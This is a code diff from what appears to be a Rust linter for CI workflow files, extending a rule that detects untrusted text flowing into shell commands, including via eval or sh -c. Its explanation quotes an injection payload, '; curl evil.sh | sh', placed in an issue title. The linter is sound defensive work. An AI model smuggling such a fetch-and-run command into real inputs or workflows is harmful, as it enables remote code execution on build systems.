@@ -19,7 +19,7 @@ pub static CODE: Code = Code {
     severity: Severity::Error,
     summary: "text from a webhook, an event, an agent or an open-world tool becomes part of a shell command",
     why: "The shell runs whatever the text says: `; curl evil.sh | sh` in an issue's title is a command then. Passed through `env` and \
-          written as `\"$TITLE\"`, it stays text whatever it holds. Numbers, booleans and words of a closed list may be part of a command, \
+          written as `\"$TITLE\"`, it stays text whatever it holds, unless the command gives it to `eval`, `sh -c` or a shell's input. Numbers, booleans and words of a closed list may be part of a command, \
           and so may text that was held with `matches` against a pattern for all of it which lets through nothing that means something to a \
           shell, such as `^[A-Za-z0-9._-]+$`.",
     bad: Example::yaml(
@@ -65,6 +65,21 @@ pub(super) fn report(
         Some(fix) => report.fix(fix),
         None => report,
     }
+}
+
+/// What a command gives to a program that runs it, as `eval` does.
+pub(super) const HELP: &str = "give it to a program as an argument of its own, `\"$NAME\"`, or as data on the standard input: what `eval`, `-c` or a shell's input gets is run";
+
+/// A value that stays out of the command's text, but is run by `by` in it.
+pub(super) fn run_again(cx: &RuleContext<'_>, span: Span, by: &str, origin: &Origin) -> Diagnostic {
+    let what = origin.source.words();
+    let report = of(
+        origin,
+        span,
+        format!("{what} is run by `{by}` in the command"),
+    );
+    let report = told(cx.file, report, &origin.place, origin.source.remark());
+    origin.trail.told(cx.file, report).help(HELP)
 }
 
 /// A finding of the code that fits how sure the origin is.
